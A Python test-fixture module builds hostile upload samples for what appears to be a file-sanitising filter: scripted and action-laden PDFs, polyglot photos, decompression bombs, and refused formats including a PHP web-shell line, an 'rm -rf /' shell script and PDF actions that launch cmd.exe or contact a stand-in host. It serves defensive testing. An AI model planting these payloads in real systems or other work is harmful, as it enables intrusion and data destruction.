"""Files that someone might send to harm the office, each made in code: what it is → bytes (or how, when slow)."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw

from tests.support.hostile_pdfs import (
    MARK,
    action,
    annotated,
    appearance_bomb,
    at_root,
    deep,
    embedded,
    escaped_names,
    filled_form,
    hidden_in_object_stream,
    image_bomb,
    incremental,
    loop,
    metadata,
    on_page,
    outside_stream,
    padded_object_stream,
    padded_xref_stream,
    pdf,
    postscript,
    reference_page,
    repeated,
    script,
    stream_bomb,
)


def photo(kind="JPEG", size=(64, 48), mode="RGB", **settings):
    """The bytes of a harmless picture; `settings` as Pillow's save takes them."""
    image = Image.new(mode, size)
    if mode in ("RGB", "RGBA"):
        ImageDraw.Draw(image).rectangle((0, 0, size[0] // 2, size[1] // 2), fill="#c04020")
    out = io.BytesIO()
    image.save(out, kind, **settings)
    return out.getvalue()


def archive():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("a.txt", MARK)
    return out.getvalue()


def png(width, height, *chunks, depth=8, colour=2):
    """A PNG of the size that its head claims, with chunks of one's own."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    if not chunks:
        row = b"\0" + b"\x80" * (width * 3)
        chunks = ((b"IDAT", zlib.compress(row * min(height, 64))),)
    parts = ((b"IHDR", head), *chunks, (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )


def png_bomb(width, height, colour=6):
    """A PNG of one colour: a few kilobytes that decode to four bytes a pixel. `height` in hundreds."""
    samples = {0: 1, 2: 3, 6: 4}[colour]
    row = b"\0" + b"\x80" * (width * samples)
    return png(width, height, (b"IDAT", repeated(row * 100, height // 100)), colour=colour)


def exif_photo(**tags):
    """A photo whose metadata say where and by whom it was taken, with MARK among it."""
    exif = Image.Exif()
    exif[0x0112] = tags.get("orientation", 1)
    exif[0x010E] = MARK.decode()
    exif[0x9286] = MARK
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "S", (6.0, 53.0, 19.0), "E", (109.0, 40.0, 31.0)
    return photo(exif=exif)


def with_segment(marker, data):
    """A JPEG with one more segment after its start."""
    jpeg = photo()
    return jpeg[:2] + b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data + jpeg[2:]


PHOTOS = {
    "gps and a script in EXIF": exif_photo(),
    "turned by EXIF": exif_photo(orientation=6),
    "an archive behind a photo": photo() + archive(),
    "a page behind a photo": photo() + MARK,
    "a PDF behind a photo": photo() + pdf(),
    "a comment with a script": with_segment(0xFE, MARK),
    "an XMP packet": with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + MARK),
    "a colour profile that is a script": photo(icc_profile=MARK * 20),
    "a PNG with texts": png(8, 8, (b"tEXt", b"Comment\0" + MARK), (b"IDAT", zlib.compress((b"\0" + b"\1" * 24) * 8))),
    "a PNG with an unknown chunk": png(8, 8, (b"juMP", MARK), (b"IDAT", zlib.compress((b"\0" + b"\1" * 24) * 8))),
    "a CMYK photo": photo(mode="CMYK"),
    "an animated picture": photo("WEBP", save_all=True, append_images=[Image.new("RGB", (64, 48), "red")]),
    "a transparent picture": photo("PNG", mode="RGBA"),
    "a picture of one pixel": photo(size=(1, 1)),
    "a very long picture": photo("PNG", size=(4, 9000)),
    "a 16-bit picture": photo("PNG", mode="I;16"),
    "a photo in a photo": photo() + photo(size=(900, 900)),
}

PDFS = {
    "a script on opening": pdf(at_root(OpenAction=script())),
    "a script among the names": pdf(
        at_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()]))))
    ),
    "a script when a page opens": pdf(on_page(AA=Dictionary(O=script()))),
    "a script when the file closes": pdf(at_root(AA=Dictionary(WC=script()))),
    "a script behind a link": pdf(annotated(Subtype=Name.Link, A=script())),
    "a script behind the next action": pdf(action("GoTo", D=Array([]), Next=script())),
    "a program to launch": pdf(action("Launch", F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))),
    "another document": pdf(action("GoToR", F=String("\\\\jahat.example\\x.pdf"), D=Array([]))),
    "an embedded document": pdf(action("GoToE", T=Dictionary(R=Name.C, N=String("a")))),
    "a web address": pdf(action("URI", URI=String("https://jahat.example/?siapa"))),
    "a form that is sent": pdf(action("SubmitForm", F=String("https://jahat.example/"))),
    "data that is imported": pdf(action("ImportData", F=String("x.fdf"))),
    "a movie": pdf(annotated(Subtype=Name.Movie, Movie=Dictionary(F=String("x.avi")))),
    "a sound": pdf(action("Sound", Sound=Dictionary())),
    "a rendition": pdf(action("Rendition", JS=String("app.alert(1)"))),
    "rich media": pdf(annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
    "a 3D scene with a script": pdf(annotated(Subtype=Name("/3D"), **{"3DD": Dictionary(OnInstantiate=script())})),
    "an embedded program": pdf(embedded),
    "an attached file": pdf(annotated(Subtype=Name.FileAttachment, FS=Dictionary(F=String("a.exe")))),
    "associated files": pdf(on_page(AF=Array([Dictionary(Type=Name.Filespec, F=String("a"))]))),
    "a form with XFA and a calculation": pdf(filled_form),
    "metadata": pdf(metadata),
    "content in another file": pdf(outside_stream),
    "PostScript": pdf(postscript),
    "a page of another document": pdf(reference_page),
    "a script in an object stream": hidden_in_object_stream(),
    "names written otherwise": escaped_names(),
    "a script added by an update": incremental(),
    "a page behind the document": pdf() + MARK,
    "an archive behind the document": pdf() + archive(),
    "objects in a circle": pdf(loop),
    "objects four hundred deep": pdf(deep),
    "a password to change it only": pdf(encryption=pikepdf.Encryption(owner="x", user="")),
}

REFUSED = {
    "nothing": b"",
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "HTML": b"<!doctype html>" + MARK,
    "a Windows program": b"MZ\x90\x00" + b"\0" * 200,
    "a Linux program": b"\x7fELF" + b"\0" * 200,
    "a shell script": b"#!/bin/sh\nrm -rf /\n",
    "PHP": b"<?php system($_GET['c']); ?>",
    "an archive": archive(),
    "a compressed tar": b"\x1f\x8b\x08" + b"\0" * 60,
    "a 7z archive": b"7z\xbc\xaf\x27\x1c" + b"\0" * 60,
    "a RAR archive": b"Rar!\x1a\x07\x00" + b"\0" * 60,
    "a Word document": b"PK\x03\x04" + b"\0" * 100,
    "an old Word document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 200,
    "RTF": rb"{\rtf1 hello}",
    "a GIF": photo("GIF", mode="L"),
    "a GIF that is a script": b"GIF89a/*" + MARK,
    "a TIFF": photo("TIFF"),
    "a BMP": photo("BMP"),
    "an icon": photo("ICO"),
    "HEIC": b"\0\0\0\x18ftypheic" + b"\0" * 100,
    "a video": b"\0\0\0\x18ftypmp42" + b"\0" * 100,
    "an MVG picture": b"push graphic-context\nimage over 0,0 0,0 'https://jahat.example'",
    "PostScript alone": b"%!PS-Adobe-3.0\nquit",
    "a cut-off JPEG": photo(size=(900, 900), quality=95)[:400],
    "the head of a JPEG": b"\xff\xd8\xff\xe0",
    "the head of a PNG": b"\x89PNG\r\n\x1a\n",
    "a picture bomb": png(30_000, 30_000),
    "a picture bomb in one line": png(900_000_000, 1, (b"IDAT", zlib.compress(b"\0" * 1000))),
    "a PNG that isn't what it says": png(64, 64, (b"IDAT", b"nonsense")),
    "a PDF in name only": b"%PDF-1.7 hello",
    "a page before a PDF": b"<!--\n" + pdf() + b"-->",
    "a PDF of nothing": b"%PDF-1.7\n%%EOF",
    "a PDF with a password": pdf(encryption=pikepdf.Encryption(owner="x", user="rahasia")),
    "a PDF of too many pages": pdf(pages=201),
    "a PDF bomb": lambda: pdf(stream_bomb(1), compress_streams=False),
    "a PDF bomb in a bomb": lambda: pdf(stream_bomb(2), compress_streams=False),
    "a picture bomb in a PDF": pdf(image_bomb),
    "a PDF bomb in the table of objects": padded_xref_stream,
    "a PDF bomb in a stream of objects": padded_object_stream,
    "a PDF bomb in a field": lambda: pdf(appearance_bomb, compress_streams=False),
    "a picture of 58 KB and a hundred megabytes": lambda: png_bomb(5900, 5900),
}
